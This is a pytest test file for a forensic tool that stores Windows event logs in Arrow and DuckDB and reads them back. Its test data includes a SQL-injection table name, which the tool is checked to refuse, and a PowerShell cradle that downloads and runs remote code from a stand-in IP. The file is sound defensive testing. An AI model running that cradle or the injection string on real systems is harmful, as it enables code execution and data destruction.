"""Events -> Arrow batches per log source -> DuckDB -> identical Events."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest

from casefile.errors import CasefileError
from casefile.ingest import read_events
from casefile.ingest.columnar import (
    EVENT_SCHEMA,
    SourceCount,
    events_from_batch,
    read_table,
    sources,
    to_batches,
    write_batches,
    write_events,
)
from casefile.models import Event


def _event(channel: str | None, event_id: int | None, n: int, **fields: Any) -> Event:
    return Event(
        timestamp=datetime(2022, 7, 15, 8, n // 60, n % 60, 123456, tzinfo=UTC),
        computer="HOST-1",
        channel=channel,
        provider="Prov",
        event_id=event_id,
        record_id=n,
        source_file=f"case/{channel}.evtx",
        fields={"EventID": event_id, "Channel": channel, **fields},
    )


EVENTS = [
    _event("Security", 4688, 1, NewProcessName="C:\\Windows\\cmd.exe", CommandLine="cmd /c whoami"),
    _event("Microsoft-Windows-Sysmon/Operational", 1, 2, Image="C:\\x.exe", ProcessId=4460),
    _event("Security", 4688, 3, NewProcessName="C:\\Windows\\notepad.exe", Flag=True, Ratio=0.5),
    _event("System", 7045, 4, Data=["a", " b"], Nothing=None, Nested={"k": [1, 2]}),
    _event(None, None, 5, message="no source"),
]


def _same(a: list[Event], b: list[Event]) -> None:
    key = lambda e: e.record_id or 0  # noqa: E731
    assert sorted(a, key=key) == sorted(b, key=key)
    for x, y in zip(sorted(a, key=key), sorted(b, key=key), strict=True):
        assert list(x.fields) == list(y.fields)  # field order survives too
        assert [type(v) for v in x.fields.values()] == [type(v) for v in y.fields.values()]


def test_batches_hold_one_source_each_and_round_trip() -> None:
    batches = list(to_batches(EVENTS))
    keys = [k for k, _ in batches]
    assert keys == [(None, None), ("Microsoft-Windows-Sysmon/Operational", 1), ("Security", 4688),
                    ("System", 7045)]
    for key, batch in batches:
        assert batch.schema == EVENT_SCHEMA
        assert set(zip(batch.column("channel").to_pylist(), batch.column("event_id").to_pylist(),
                       strict=True)) == {key}
    security = dict(batches)[("Security", 4688)]
    assert security.column("record_id").to_pylist() == [1, 3]  # stream order within a source
    assert security.column("fields").to_pylist()[1] == [
        ("EventID", "4688"), ("Channel", "Security"), ("NewProcessName", "C:\\Windows\\notepad.exe"),
        ("Flag", "true"), ("Ratio", "0.5"),
    ]
    assert security.column("fields_typed").to_pylist()[1] == '{"EventID": 4688, "Flag": true, "Ratio": 0.5}'
    _same([e for _, b in batches for e in events_from_batch(b)], EVENTS)


def test_batches_are_bounded() -> None:
    events = [_event("Security", 4624 + (i % 3), i) for i in range(100)]
    batches = list(to_batches(events, batch_rows=10, max_buffered=15))
    assert all(b.num_rows <= 10 for _, b in batches)
    assert sum(b.num_rows for _, b in batches) == 100
    _same([e for _, b in batches for e in events_from_batch(b)], events)
    with pytest.raises(CasefileError, match="batch_rows"):
        list(to_batches(events, batch_rows=10, max_buffered=5))


def test_duckdb_table_round_trip_and_source_filter(tmp_path: Path) -> None:
    db = tmp_path / "case.duckdb"
    with duckdb.connect(str(db)) as con:
        assert write_events(con, EVENTS, batch_rows=2, max_buffered=4) == 5
    with duckdb.connect(str(db), read_only=True) as con:
        _same(list(read_table(con)), EVENTS)
        assert sources(con)[0] == SourceCount("Security", 4688, 2)
        only = list(read_table(con, sources=[("Security", 4688), ("System", None)]))
        assert sorted(e.record_id or 0 for e in only) == [1, 3, 4]
        assert list(read_table(con, sources=[])) == []
        # Fields are filtered by name in SQL, with bound parameters.
        hits = con.execute(
            "SELECT record_id FROM events WHERE channel = ? AND fields['CommandLine'] ILIKE ?",
            ["Security", "%whoami%"],
        ).fetchall()
        assert hits == [(1,)]
        assert con.execute("SELECT typeof(timestamp), typeof(fields) FROM events LIMIT 1").fetchall() == [
            ("TIMESTAMP WITH TIME ZONE", "MAP(VARCHAR, VARCHAR)"),
        ]


def test_lone_surrogates_and_integers_beyond_the_columns_are_stored(tmp_path: Path) -> None:
    """JSON escapes (`"\\ud800"`) and undecodable file names put lone surrogates in strings, which Arrow and
    DuckDB refuse; crafted logs hold integers wider than the columns. Neither may stop a case's ingest."""
    odd = Event(
        timestamp=None, computer="HOST\ud800", channel="Security", provider=None, event_id=2**40,
        record_id=2**64 + 1, source_file="logs/\udcff.json",
        fields={"EventID": 2**40, "Cmd": "a\ud800b", "List": ["\udc80", 1], "EventRecordID": 2**64 + 1},
    )
    db = tmp_path / "case.duckdb"
    with duckdb.connect(str(db)) as con:
        assert write_events(con, [EVENTS[0], odd]) == 2
    with duckdb.connect(str(db), read_only=True) as con:
        plain, back = sorted(read_table(con), key=lambda e: e.event_id is None)
        assert plain == EVENTS[0]
        # the fields come back exactly; the columns hold what they can: text escaped, no out-of-range number
        assert back.fields == odd.fields and list(back.fields) == list(odd.fields)
        assert (back.computer, back.source_file) == ("HOST\\ud800", "logs/\\udcff.json")
        assert (back.event_id, back.record_id) == (None, None)
        assert con.execute("SELECT fields['Cmd'] FROM events WHERE event_id IS NULL").fetchall() == [
            ("a\\ud800b",)
        ]


def test_hostile_table_name_is_refused() -> None:
    with duckdb.connect() as con, pytest.raises(CasefileError, match="invalid table name"):
        write_batches(con, [], table='events"; DROP TABLE x; --')


def test_write_accepts_bare_batches() -> None:
    batch = next(b for _, b in to_batches(EVENTS[:1]))
    with duckdb.connect() as con:
        assert write_batches(con, [batch, batch, batch], table="copy", insert_rows=2) == 3
        assert con.execute("SELECT count(*) FROM copy").fetchall() == [(3,)]
        table = con.sql("SELECT * FROM copy").to_arrow_table()
        assert isinstance(table, pa.Table)
        assert list(events_from_batch(table)) == [EVENTS[0]] * 3


@pytest.mark.shared
def test_real_evidence_round_trips_through_duckdb(shared_data: Path, tmp_path: Path) -> None:
    paths = [
        shared_data / "evtx" / "EVTX-ATTACK-SAMPLES" / "Lateral Movement",
        shared_data / "json" / "OTRF-Security-Datasets" / "datasets" / "atomic" / "windows"
        / "defense_evasion" / "host" / "psh_cmstp_execution_bypassuac.zip",
    ]
    events = list(read_events(paths, on_warning=lambda w: pytest.fail(str(w))))
    assert len(events) > 1000
    with duckdb.connect(str(tmp_path / "e.duckdb")) as con:
        assert write_events(con, events) == len(events)
        back = list(read_table(con))
    key = lambda e: (e.source_file, e.record_id or 0, e.timestamp, repr(e.fields))  # noqa: E731
    assert sorted(back, key=key) == sorted(events, key=key)


def test_ingest_to_duckdb_counts_everything(tmp_path: Path) -> None:
    from casefile.ingest.columnar import IngestSummary, ingest_to_duckdb

    data = Path(__file__).parent.parent / "data" / "ingest"
    seen: list[object] = []
    with duckdb.connect(str(tmp_path / "case.duckdb")) as con:
        summary = ingest_to_duckdb([data], con, on_warning=seen.append)
        assert summary == IngestSummary(files=7, events=14, warnings=3, sources=10)
        assert len(seen) == 3
        assert con.execute("SELECT count(*) FROM events").fetchall() == [(14,)]
        assert con.execute(
            "SELECT fields['ScriptBlockText'] FROM events WHERE event_id = ?", [4104]
        ).fetchall() == [("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",)]
